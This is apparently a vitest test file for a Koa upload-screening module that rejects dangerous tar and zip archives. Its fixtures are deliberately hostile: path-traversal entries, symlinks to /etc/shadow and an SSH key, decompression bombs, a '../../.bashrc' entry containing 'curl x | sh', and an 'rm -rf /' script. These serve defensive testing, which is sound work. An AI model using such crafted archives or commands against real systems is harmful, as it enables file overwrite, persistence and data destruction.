import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { Readable } from "node:stream";
import { crc32, deflateRawSync, gzipSync } from "node:zlib";
import Koa from "koa";
import * as tar from "tar-stream";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { errorHandler } from "../http-error.js";
import { ArchiveRejectedError, screenArchive, screenUploads, type ArchiveLimits } from "./uploads.js";
import { errorStatus } from "../http-error.js";

/** A domain error as the HTTP edge answers it: its fields plus the status from the code table. */
const atEdge = (error: unknown) => ({ ...(error as object), message: (error as Error).message, status: errorStatus(error) });

type TarEntry = Partial<tar.Header> & { name: string; content?: Buffer | string };

/** A real tarball built with tar-stream, optionally gzipped. */
async function makeTar(entries: TarEntry[], gzip = false): Promise<Buffer> {
  const pack = tar.pack();
  const done = (async () => {
    const chunks: Buffer[] = [];
    for await (const chunk of pack) chunks.push(chunk as Buffer);
    return Buffer.concat(chunks);
  })();
  for (const { content, ...header } of entries) {
    await new Promise<void>((resolve, reject) => pack.entry({ mode: 0o644, ...header }, content ?? "", (e) => (e ? reject(e) : resolve())));
  }
  pack.finalize();
  const out = await done;
  return gzip ? gzipSync(out) : out;
}

interface ZipEntry {
  name: string;
  data?: Buffer;
  /** Unix mode, including the file-type bits. */
  mode?: number;
  deflate?: boolean;
  /** What the headers claim the entry unpacks to; defaults to the truth. */
  declaredSize?: number;
  encrypted?: boolean;
}

/** A minimal zip writer, so tests can produce archives that lie, overlap or hold odd file types. */
function makeZip(entries: ZipEntry[], options: { centralCopies?: number } = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, "utf8");
    const data = e.data ?? Buffer.alloc(0);
    const packed = e.deflate ? deflateRawSync(data) : data;
    const method = e.deflate ? 8 : 0;
    const flags = 0x800 | (e.encrypted ? 1 : 0);
    const crc = crc32(data);
    const size = e.declaredSize ?? data.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt16LE(0, 10);
    local.writeUInt16LE(0x21, 12);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE((3 << 8) | 20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt16LE(0, 12);
    central.writeUInt16LE(0x21, 14);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(((e.mode ?? 0o100644) << 16) >>> 0, 38);
    central.writeUInt32LE(offset, 42);
    for (let i = 0; i < (options.centralCopies ?? 1); i++) centrals.push(Buffer.concat([central, name]));
    locals.push(local, name, packed);
    offset += local.length + name.length + packed.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(centrals.length, 8);
  end.writeUInt16LE(centrals.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

async function rejection(input: Buffer | Readable, limits?: ArchiveLimits): Promise<ArchiveRejectedError> {
  const error = await screenArchive(input, limits).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(ArchiveRejectedError);
  return error as ArchiveRejectedError;
}

const repo: TarEntry[] = [
  { name: "repo/", type: "directory", mode: 0o755 },
  { name: "repo/package.json", content: '{"name":"demo"}' },
  { name: "repo/src/", type: "directory", mode: 0o755 },
  { name: "repo/src/index.ts", content: "export const x = 1;\n" },
  { name: "repo/README.md", type: "symlink", linkname: "src/index.ts" },
  { name: "repo/src/alias.ts", type: "symlink", linkname: "../package.json" },
  { name: "repo/copy.json", type: "link", linkname: "repo/package.json" },
];

describe("screenArchive: tarballs", () => {
  it("accepts an ordinary repository as .tar and .tar.gz, from a buffer or a stream", async () => {
    const plain = await makeTar(repo);
    const gz = await makeTar(repo, true);
    const expected = { entries: 7, files: 2, directories: 2, symlinks: 2, hardlinks: 1, uncompressedBytes: 35 };
    expect(await screenArchive(plain)).toMatchObject({ format: "tar", compressedBytes: plain.length, ...expected });
    expect(await screenArchive(gz)).toMatchObject({ format: "tar.gz", compressedBytes: gz.length, ...expected });
    const chunked = Readable.from(Array.from({ length: Math.ceil(gz.length / 100) }, (_, i) => gz.subarray(i * 100, i * 100 + 100)));
    expect(await screenArchive(chunked)).toMatchObject({ format: "tar.gz", ...expected });
  });

  it.each([
    ["../evil.sh", "archive_unsafe_path"],
    ["repo/../../evil.sh", "archive_unsafe_path"],
    ["/etc/cron.d/evil", "archive_unsafe_path"],
    ["C:\\Windows\\evil.dll", "archive_unsafe_path"],
    ["repo\\..\\..\\evil.sh", "archive_unsafe_path"],
  ])("refuses the entry %s", async (name, code) => {
    const error = await rejection(await makeTar([{ name: "ok.txt", content: "fine" }, { name, content: "x" }], true));
    expect(atEdge(error)).toMatchObject({ status: 422, code, entry: name });
  });

  it.each<[string, TarEntry]>([
    ["a symlink climbing out", { name: "repo/up", type: "symlink", linkname: "../../../etc" }],
    ["an absolute symlink", { name: "repo/shadow", type: "symlink", linkname: "/etc/shadow" }],
    ["a hard link out", { name: "repo/passwd", type: "link", linkname: "../etc/passwd" }],
    ["a hard link to an absolute path", { name: "repo/passwd", type: "link", linkname: "/etc/passwd" }],
  ])("refuses %s", async (_, entry) => {
    const error = await rejection(await makeTar([{ name: "repo/", type: "directory" }, entry]));
    expect(atEdge(error)).toMatchObject({ status: 422, code: "archive_unsafe_link", entry: entry.name });
  });

  it("refuses a file written through a symlink, even one that looks inside", async () => {
    const error = await rejection(await makeTar([{ name: "d", type: "symlink", linkname: "." }, { name: "d/x", type: "symlink", linkname: ".." }, { name: "d/x/etc/passwd", content: "root::0:0" }]));
    expect(error).toMatchObject({ code: "archive_unsafe_link", entry: "d/x" });
  });

  it("refuses symlinks altogether when told to", async () => {
    const error = await rejection(await makeTar(repo), { allowSymlinks: false });
    expect(error).toMatchObject({ code: "archive_unsafe_link", entry: "repo/README.md" });
  });

  it.each<[TarEntry["type"]]>([["character-device"], ["block-device"], ["fifo"]])("refuses a %s", async (type) => {
    const error = await rejection(await makeTar([{ name: "dev/thing", type, devmajor: 1, devminor: 3 }]));
    expect(atEdge(error)).toMatchObject({ status: 422, code: "archive_special_file", entry: "dev/thing" });
  });

  it("stops a gzip bomb while streaming", async () => {
    // 64 MiB of zeros packs into ~64 KiB: a 1000x ratio.
    const bomb = await makeTar([{ name: "zeros.bin", content: Buffer.alloc(64 * 1024 * 1024) }], true);
    expect(bomb.length).toBeLessThan(200 * 1024);
    const started = performance.now();
    const error = await rejection(bomb);
    expect(atEdge(error)).toMatchObject({ status: 422, code: "archive_bomb" });
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  it("stops reading the source once it has decided", async () => {
    const bomb = await makeTar([{ name: "zeros.bin", content: Buffer.alloc(64 * 1024 * 1024) }], true);
    let pulled = 0;
    const source = Readable.from(
      (function* () {
        for (let i = 0; i < bomb.length; i += 1024) {
          pulled += 1024;
          yield bomb.subarray(i, i + 1024);
        }
      })(),
    );
    expect(await rejection(source)).toMatchObject({ code: "archive_bomb" });
    expect(pulled).toBeLessThan(bomb.length / 2);
    expect(source.destroyed).toBe(true);
  });

  it("caps the total unpacked size and each entry, on bytes actually read", async () => {
    const files = await makeTar([{ name: "a.bin", content: Buffer.alloc(300_000, 1) }, { name: "b.bin", content: Buffer.alloc(300_000, 2) }], true);
    expect(atEdge(await rejection(files, { maxUncompressedBytes: 500_000 }))).toMatchObject({ status: 413, code: "archive_uncompressed_too_large", entry: "b.bin" });
    expect(atEdge(await rejection(files, { maxEntryBytes: 200_000 }))).toMatchObject({ status: 413, code: "archive_entry_too_large", entry: "a.bin" });
  });

  it("caps the upload size and the entry count", async () => {
    const many = await makeTar(Array.from({ length: 12 }, (_, i) => ({ name: `f${i}.txt`, content: "x" })));
    expect(atEdge(await rejection(many, { maxCompressedBytes: 4096 }))).toMatchObject({ status: 413, code: "archive_too_large" });
    expect(atEdge(await rejection(many, { maxEntries: 10 }))).toMatchObject({ status: 422, code: "archive_too_many_entries", entry: "f10.txt" });
  });

  it("refuses what is not an archive, and corrupt gzip", async () => {
    expect(atEdge(await rejection(Buffer.from("#!/bin/sh\nrm -rf /\n")))).toMatchObject({ status: 422, code: "archive_unsupported" });
    const gz = await makeTar(repo, true);
    const broken = Buffer.concat([gz.subarray(0, 40), Buffer.alloc(200, 0x55)]);
    expect(atEdge(await rejection(broken))).toMatchObject({ status: 422, code: "archive_corrupt" });
  });

  it("validates its limits", async () => {
    await expect(screenArchive(Buffer.alloc(0), { maxRatio: -1 })).rejects.toThrow(/Invalid archive limits/);
    await expect(screenArchive(Buffer.alloc(0), { maxSize: 1 } as never)).rejects.toThrow(/Invalid archive limits/);
  });
});

describe("screenArchive: zips", () => {
  const text = Buffer.from("export const x = 1;\n".repeat(50));

  it("accepts an ordinary zip with a directory, stored and deflated files and an inside symlink", async () => {
    const zip = makeZip([
      { name: "repo/", mode: 0o040755 },
      { name: "repo/index.ts", data: text, deflate: true },
      { name: "repo/notes.txt", data: Buffer.from("hello") },
      { name: "repo/link.ts", data: Buffer.from("index.ts"), mode: 0o120777 },
    ]);
    expect(await screenArchive(zip)).toMatchObject({ format: "zip", entries: 4, files: 2, directories: 1, symlinks: 1, uncompressedBytes: text.length + 5, compressedBytes: zip.length });
  });

  it.each(["../../evil.sh", "/tmp/evil", "C:\\evil.dll", "a/../../evil"])("refuses the entry %s", async (name) => {
    const error = await rejection(makeZip([{ name, data: Buffer.from("x") }]));
    // yauzl reads zip names with / as the separator.
    expect(atEdge(error)).toMatchObject({ status: 422, code: "archive_unsafe_path", entry: name.replace(/\\/g, "/") });
  });

  it("refuses a symlink pointing outside and special files", async () => {
    expect(await rejection(makeZip([{ name: "repo/key", data: Buffer.from("../../../home/u/.ssh/id_rsa"), mode: 0o120777 }]))).toMatchObject({ code: "archive_unsafe_link", entry: "repo/key" });
    expect(await rejection(makeZip([{ name: "repo/pipe", mode: 0o010644 }]))).toMatchObject({ code: "archive_special_file", entry: "repo/pipe" });
    expect(await rejection(makeZip([{ name: "repo/tty", mode: 0o020644 }]))).toMatchObject({ code: "archive_special_file", entry: "repo/tty" });
  });

  it("stops a deflate bomb", async () => {
    const error = await rejection(makeZip([{ name: "zeros.bin", data: Buffer.alloc(64 * 1024 * 1024), deflate: true }]));
    expect(atEdge(error)).toMatchObject({ status: 422, code: "archive_bomb", entry: "zeros.bin" });
  });

  it("stops an overlapping-entry bomb (many directory records, one payload)", async () => {
    const zip = makeZip([{ name: "z.bin", data: Buffer.alloc(1024 * 1024), deflate: true }], { centralCopies: 300 });
    expect(zip.length).toBeLessThan(30_000);
    const error = await rejection(zip);
    // The second record already names z.bin again: refused before anything is inflated twice.
    // (Records under other names fail the local header check, which names the entry there.)
    expect(atEdge(error)).toMatchObject({ status: 422, code: "archive_unsafe_path", entry: "z.bin" });
  });

  it("refuses a name used twice, or a file's name then used as a directory", async () => {
    const twice = makeZip([{ name: "a.txt", data: Buffer.from("first") }, { name: "a.txt", data: Buffer.from("second") }]);
    expect(atEdge(await rejection(twice))).toMatchObject({ status: 422, code: "archive_unsafe_path", entry: "a.txt" });
    const under = makeZip([{ name: "a", data: Buffer.from("file") }, { name: "a/b", data: Buffer.from("under") }]);
    expect(atEdge(await rejection(under))).toMatchObject({ status: 422, code: "archive_unsafe_path", entry: "a/b" });
    // A directory may be named again, and holds files.
    const dirs = makeZip([{ name: "d/" }, { name: "d/" }, { name: "d/x", data: Buffer.from("x") }]);
    expect((await screenArchive(dirs)).files).toBe(1);
  });

  it("does not trust declared sizes", async () => {
    // Claims 10 bytes, inflates to 1 MiB: refused as corrupt, naming the entry.
    const liar = makeZip([{ name: "small.txt", data: Buffer.alloc(1024 * 1024, 7), deflate: true, declaredSize: 10 }]);
    expect(atEdge(await rejection(liar))).toMatchObject({ status: 422, code: "archive_corrupt", entry: "small.txt" });
    // Claims a size under the cap, really 600 kB: refused whichever check meets the real bytes first.
    const big = makeZip([{ name: "big.bin", data: Buffer.alloc(600_000, 7), deflate: true, declaredSize: 400_000 }]);
    const error = await rejection(big, { maxEntryBytes: 500_000 });
    expect(["archive_corrupt", "archive_entry_too_large"]).toContain(error.code);
    expect(error.entry).toBe("big.bin");
  });

  it("refuses encrypted entries and too many entries", async () => {
    expect(await rejection(makeZip([{ name: "secret.txt", data: Buffer.alloc(20), deflate: true, encrypted: true }]))).toMatchObject({ code: "archive_unsupported", entry: "secret.txt" });
    const many = makeZip(Array.from({ length: 11 }, (_, i) => ({ name: `f${i}`, data: Buffer.from("x") })));
    expect(atEdge(await rejection(many, { maxEntries: 10 }))).toMatchObject({ status: 422, code: "archive_too_many_entries" });
  });
});

describe("screenUploads() middleware", () => {
  let url = "";
  let close: () => Promise<void>;
  beforeAll(async () => {
    const app = new Koa();
    app.use(errorHandler());
    app.use(screenUploads({ maxCompressedBytes: 64 * 1024 }));
    app.use((ctx) => {
      ctx.body = { report: ctx.state.screenedUpload!.report, bytes: ctx.state.screenedUpload!.body.length };
    });
    const server = createServer(app.callback());
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    close = () => new Promise((resolve) => server.close(() => resolve()));
  });
  afterAll(() => close());

  const upload = async (body: Buffer, type = "application/gzip") => {
    const res = await fetch(url, { method: "POST", headers: { "content-type": type }, body });
    return { status: res.status, body: (await res.json()) as any };
  };

  it("passes a clean tarball on with its report", async () => {
    const gz = await makeTar(repo, true);
    const res = await upload(gz);
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ bytes: gz.length, report: { format: "tar.gz", entries: 7 } });
  });

  it("answers 422 naming the problem and the entry, 413 for size, 415 for other bodies", async () => {
    const evil = await upload(makeZip([{ name: "../../.bashrc", data: Buffer.from("curl x | sh") }]), "application/zip");
    expect(evil).toEqual({ status: 422, body: { error: { code: "archive_unsafe_path", message: "Entry ../../.bashrc climbs out of the archive root with ..", details: { entry: "../../.bashrc" } } } });
    const big = await upload(Buffer.alloc(100 * 1024), "application/octet-stream");
    expect(big).toMatchObject({ status: 413, body: { error: { code: "archive_too_large" } } });
    expect((await upload(Buffer.from("{}"), "application/json")).status).toBe(415);
  });
});
